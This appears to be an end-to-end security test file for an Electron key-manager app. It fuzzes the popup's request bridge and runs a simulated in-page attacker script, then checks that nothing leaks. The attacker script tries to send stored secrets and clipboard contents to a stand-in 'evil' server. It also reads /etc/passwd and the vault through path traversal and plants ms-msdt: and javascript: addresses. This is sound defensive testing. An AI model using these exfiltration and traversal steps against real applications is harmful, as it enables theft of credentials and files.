/** Takes over the popup's page, and tests what the page can send and what an attacker's script gets. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import fc from 'fast-check';
import * as v from 'valibot';
import { declaredVersion } from '../../build/runtime/official.ts';
import { requests, type RequestName, type Snapshot } from '../../main/bridge/contract.ts';
import { MARKS, searchText } from '../support/canary.ts';
import { monsters, random, shaped } from '../support/hostile.ts';
import { expect, launchSignedIn, test } from './fixtures.ts';
import type { Keyvigil } from './keyvigil.ts';
import { cxAccount, nexusAccount, onlyKey, startNexus } from './servers.ts';
import { readStored } from './stored.ts';

/** Few, because the tests of the bridge send 10,000 to each channel in one process. Each run makes others. */
const MESSAGES = 100;

/** No host name can be resolved, so nothing reaches the internet. */
const NO_NETWORK = { args: ['--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1'] };

/**
 * A valid message of one of these requests may change an account. So the messages have the id of an account that does not exist.
 */
const CHANGING: readonly RequestName[] = [
  'removeAccount',
  'signOut',
  'saveAccount',
  'signIn',
  'setCopyFormat',
  'pinAccount',
  'moveAccount',
  'setScriptAccess',
  'renewLocalAddress',
];

/** Only these requests also get large values, and values that only a page can make. The preload script treats all requests alike. */
const GET_STRANGE: readonly RequestName[] = ['snapshot', 'verify', 'addAccount'];

test(`${MESSAGES} hostile messages a channel from the real page: none is accepted that does not fit, and nothing breaks`, async ({
  keyvigil,
  nexus,
}) => {
  const form = nexusAccount(nexus);
  const { popup } = await launchSignedIn(keyvigil, form, NO_NETWORK);
  // Cancel these dialogs at once, because they would wait for a user.
  await keyvigil.app.evaluate(({ dialog }) => {
    dialog.showSaveDialog = async () => ({ canceled: true, filePath: '' });
    dialog.showOpenDialog = async () => ({ canceled: true, filePaths: [] });
  });
  const [account] = readStored(keyvigil, 'accounts.json').accounts;
  const before = stateOf(keyvigil);
  for (const name of Object.keys(requests) as RequestName[]) {
    await test.step(name, async () => {
      const schema: v.GenericSchema = requests[name].question;
      const ids = CHANGING.includes(name) ? ['no-account'] : ['no-account', account!.id];
      const messages = fc
        .sample(fc.oneof(random, shaped(schema, ids, random)), MESSAGES)
        // Leave out the message that fits `quit`, because it may end the app.
        .filter((message) => name !== 'quit' || message !== undefined);
      const isStrange = GET_STRANGE.includes(name);
      const answers = await send(popup.page, name, messages, isStrange);
      expect(answers.length > messages.length).toBe(isStrange);
      expect(searchText('answers', answers.join('\n'))).toEqual([]);
      const all = [...messages, ...monsters()];
      // If a value that only a page can make arrives, it arrives as an empty object.
      const fits = (n: number) => v.is(schema, n < all.length ? all[n] : {});
      expect(answers.filter((answer, n) => !fits(n) && !REFUSAL.test(answer))).toEqual([]);
    });
  }
  expect(stateOf(keyvigil)).toEqual(before);
  expect(keyvigil.openedInBrowser().filter((url) => !url.startsWith(nexus.origin))).toEqual([]);
  expect(unexpectedReports(keyvigil)).toEqual([]);
  await popup.account(form.name).shows('Live');
});

/** Electron or Keyvigil refused the message, so no handler saw it. */
const REFUSAL = /Refused this request|could not be cloned|^not sent/;

/** @returns the stored state that the messages could change, without what the app changes by itself */
const stateOf = (keyvigil: Keyvigil) => [
  readStored(keyvigil, 'accounts.json'),
  Object.keys(readStored(keyvigil, 'vault.json').entries),
];

/**
 * @param isStrange whether to send also large messages, and messages that only a page can make
 * @returns each answer as text
 */
async function send(
  page: Page,
  name: RequestName,
  messages: readonly unknown[],
  isStrange: boolean,
): Promise<string[]> {
  const ask = await page.evaluateHandle(() => {
    const SIGN_INS = ['addAccount', 'saveAccount', 'signIn'];
    const request = window.keyvigil.request as (
      name: string,
      question: unknown,
    ) => Promise<unknown>;
    return async (name: string, message: unknown): Promise<string> => {
      try {
        const answer = request(name, message).then((answer) => JSON.stringify([answer]), String);
        // Without cancelling, a sign-in would wait for a server or a person.
        const { id } = (message ?? {}) as { id?: unknown };
        if (SIGN_INS.includes(name)) await request('cancelSignIn', { id }).catch(() => undefined);
        return await answer;
      } catch (error) {
        return `not sent: ${String(error)}`;
      }
    };
  });
  const sent = await page.evaluate(
    ({ ask, name, messages }) => Promise.all(messages.map((message) => ask(name, message))),
    { ask, name, messages },
  );
  if (!isStrange) return sent;
  const strange = await page.evaluate(
    async ({ ask, name, makeMonsters }) => {
      const made = (0, eval)(`(${makeMonsters})()`) as unknown[];
      const throwing = () => {
        throw new Error('A trap.');
      };
      const own: unknown[] = [
        throwing,
        Symbol('x'),
        document.body,
        globalThis,
        new Proxy({}, { get: throwing, ownKeys: throwing, getPrototypeOf: throwing }),
        Object.defineProperty({}, 'id', { get: throwing, enumerable: true }),
        Promise.resolve({ id: 'x' }),
        new Blob(['x']),
        new MessageChannel().port1,
        window.keyvigil,
      ];
      const answers: string[] = [];
      for (const message of [...made, ...own]) answers.push(await ask(name, message));
      return answers;
    },
    { ask, name, makeMonsters: monsters.toString() },
  );
  return [...sent, ...strange];
}

/** @returns the errors in the log, without those that a valid message may cause */
function unexpectedReports({ profile }: Keyvigil): string[] {
  const expected = /This account does not exist any more|An account with this id exists already/;
  return readFileSync(join(profile, 'logs/main.log'), 'utf8')
    .split('\n')
    .filter((line) => line.includes('[error]') && !expected.test(line));
}

test('an attacker’s script in the popup gets no key, no stored secret and no file, and opens no address by itself', async ({
  keyvigil,
  nexus,
  ribCx,
}) => {
  const evil = await startNexus();
  const { popup } = await launchSignedIn(keyvigil, nexusAccount(nexus));
  await (await popup.addAccount(cxAccount(ribCx))).shows('Live');
  const version = await keyvigil.app.evaluate(() => process.versions.electron);
  const loot = await popup.page.evaluate(attack, {
    evil: evil.origin,
    home: keyvigil.home,
    // Until Electron 33.4, a page could paste without a permission (electron#45237).
    pastes: version === (await declaredVersion()),
  });
  const keys = [onlyKey(nexus), onlyKey(ribCx)];
  // Prove that the attack was real: a key was on the clipboard while the script tried to read the clipboard.
  expect(keys).toContain(await keyvigil.clipboard());
  expect(loot.length).toBeGreaterThan(100);
  const text = loot.join('\n');
  expect([...keys, ...MARKS].filter((secret) => text.includes(secret))).toEqual([]);
  expect(searchText('loot', text)).toEqual([]);
  expect(text).not.toContain('root:x:');
  // With a forged confirmation, the script opens the page of another host. This is harmless: nothing in the address is secret.
  const opened = keyvigil.openedInBrowser().map((url) => new URL(url));
  expect(opened.filter(({ protocol }) => !/^https?:$/.test(protocol))).toEqual([]);
  expect(new Set(opened.map(({ host }) => host))).toEqual(
    new Set([...[nexus, ribCx].map(({ origin }) => new URL(origin).host), 'evil.example']),
  );
  // The attacker's server got no request, neither from the page nor from Keyvigil.
  expect(evil.journal.entries).toEqual([]);
  await evil.stop();
});

test('the popup’s page reaches no network, not even by WebRTC', async ({ keyvigil }) => {
  const reached: string[] = [];
  const udp = createSocket('udp4').on('message', () => reached.push('UDP'));
  const tcp = createServer((connection) => {
    reached.push('TCP');
    connection.destroy();
  });
  udp.bind(0);
  tcp.listen(0);
  await Promise.all([once(udp, 'listening'), once(tcp, 'listening')]);
  await keyvigil.launch();
  const { page } = await keyvigil.popup();
  const hosts = Object.values(networkInterfaces()).flatMap((addresses = []) =>
    addresses.filter(({ family }) => family === 'IPv4').map(({ address }) => address),
  );
  const ports = { stun: udp.address().port, turn: (tcp.address() as AddressInfo).port };
  await page.evaluate(
    async ({ hosts, ports }) => {
      const iceServers = hosts.flatMap((host) => [
        { urls: `stun:${host}:${ports.stun}` },
        { urls: `turn:${host}:${ports.turn}?transport=tcp`, username: 'x', credential: 'x' },
      ]);
      const peer = new RTCPeerConnection({ iceServers });
      const gathered = new Promise<void>((resolve) => {
        peer.onicegatheringstatechange = () => {
          if (peer.iceGatheringState === 'complete') resolve();
        };
      });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await gathered;
    },
    { hosts, ports },
  );
  expect(reached).toEqual([]);
  udp.close();
  tcp.close();
});

/** This function runs in the page. It tries every way to get keys, secrets, files and the network. */
async function attack({
  evil,
  home,
  pastes,
}: {
  evil: string;
  home: string;
  pastes: boolean;
}): Promise<string[]> {
  const loot: string[] = [];
  const keep = (value: unknown) => loot.push(JSON.stringify([value]));
  const request = window.keyvigil.request as (name: string, question?: unknown) => Promise<unknown>;
  const ask = async (name: string, question?: unknown) => {
    const answer = await request(name, question).catch(String);
    keep(answer);
    return answer;
  };
  window.keyvigil.onSnapshot(keep);
  const snapshot = await window.keyvigil.request('snapshot', undefined);
  const { accounts } = JSON.parse(snapshot) as Snapshot;

  for (const { id, copyFormats } of accounts) {
    const channels = [
      'editableAccount',
      'activity',
      'listing',
      'verify',
      'copyReport',
      'copyPromptCode',
      'openPromptPage',
    ];
    for (const channel of channels) await ask(channel, { id });
    for (const format of [
      undefined,
      ...copyFormats.map(({ id }) => id),
      '__proto__',
      'constructor',
    ]) {
      await ask('copy', { id, format });
      keep(await readClipboard());
    }
    // Try to send the stored secrets to the attacker's server: through another address, system, method or trusted host.
    const { form } = await window.keyvigil.request('editableAccount', { id });
    for (const address of [evil, `${evil}/x`, `${evil}/#${form.address}`]) {
      await ask('saveAccount', { id, form: { ...form, address } });
      await ask('addAccount', { id: crypto.randomUUID(), form: { ...form, address } });
      await ask('saveAccount', {
        id,
        form: { ...form, address, values: { ...form.values, trustedHost: new URL(evil).host } },
      });
    }
    for (const values of [undefined, {}, { password: '' }])
      await ask('signIn', { id: `${id} `, values });
    // Try to start the user's programs.
    for (const explorerAddress of [
      'file:///etc/passwd',
      'ms-msdt:/x',
      'javascript:alert(1)',
      '\\\\host\\x.exe',
      'https://evil.example/',
    ]) {
      await ask('saveAccount', {
        id,
        form: { ...form, values: { ...form.values, explorerAddress } },
      });
      for (const confirmedHost of [undefined, '', 'evil.example', '*']) {
        await ask('openExplorer', { id, confirmedHost });
      }
    }
  }
  // Try requests that the contract does not name.
  for (const name of [
    '__proto__',
    'constructor',
    'vault',
    'eval',
    'readFile',
    'electron-store-get-data',
  ]) {
    await ask(name, { id: accounts[0]?.id });
  }

  // Try to reach files and the network.
  const addresses = [
    `file://${home}/profile/vault.json`,
    'file:///etc/passwd',
    `app://keyvigil/../../../../../..${home}/profile/vault.json`,
    `app://keyvigil/..%2f..%2fpackage.json`,
    'app://other/index.html',
    `${evil}/?${encodeURIComponent(loot.join())}`.slice(0, 2000),
  ];
  for (const url of addresses) {
    keep(await fetch(url, { mode: 'no-cors' }).then((response) => response.text(), String));
    for (const tag of ['img', 'script', 'iframe', 'link', 'video', 'object', 'embed']) {
      const element = document.createElement(tag);
      element.setAttribute('src', url);
      element.setAttribute('data', url);
      element.setAttribute('href', url);
      element.setAttribute('rel', 'stylesheet');
      document.body.append(element);
    }
    keep(window.open(url) === null);
    try {
      navigator.sendBeacon(url, 'x');
    } catch (error) {
      keep(String(error));
    }
    try {
      new WebSocket(url.replace('http', 'ws'));
      new EventSource(url);
    } catch (error) {
      keep(String(error));
    }
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'post' });
    document.body.append(form);
    form.submit();
  }
  for (const name of Object.getOwnPropertyNames(globalThis)) {
    if (/electron|require|process|keyvigil|ipc/i.test(name))
      keep(Object.keys(Reflect.get(globalThis, name) as object));
  }
  keep([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie]);
  await new Promise((resolve) => setTimeout(resolve, 500));
  keep(document.documentElement.outerHTML);
  return loot;

  /** Tries each way in which a page could read the clipboard. */
  async function readClipboard(): Promise<string> {
    const area = document.createElement('textarea');
    document.body.append(area);
    area.focus();
    const pasted: string[] = [];
    area.addEventListener('paste', (event) =>
      pasted.push(event.clipboardData?.getData('text') ?? ''),
    );
    // eslint-disable-next-line @typescript-eslint/no-deprecated
    if (pastes) document.execCommand('paste');
    const texts = [area.value, ...pasted];
    area.remove();
    texts.push(await navigator.clipboard.readText().catch(String));
    texts.push(await navigator.clipboard.read().then(String, String));
    return texts.join();
  }
}
